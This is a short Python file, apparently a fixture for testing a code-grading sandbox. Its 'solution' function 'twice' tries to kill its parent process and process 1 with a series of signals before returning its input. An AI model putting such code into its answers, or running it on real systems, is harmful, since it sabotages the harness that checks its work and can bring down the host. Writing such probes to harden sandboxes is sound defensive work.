"""Kills its parent and the first process.

ours: twice=0
rest: any
"""
# %% solution twice
import os, signal

def twice(x):
    for process in (os.getppid(), 1):
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(process, number)
            except OSError as error:
                print(error)
    return x
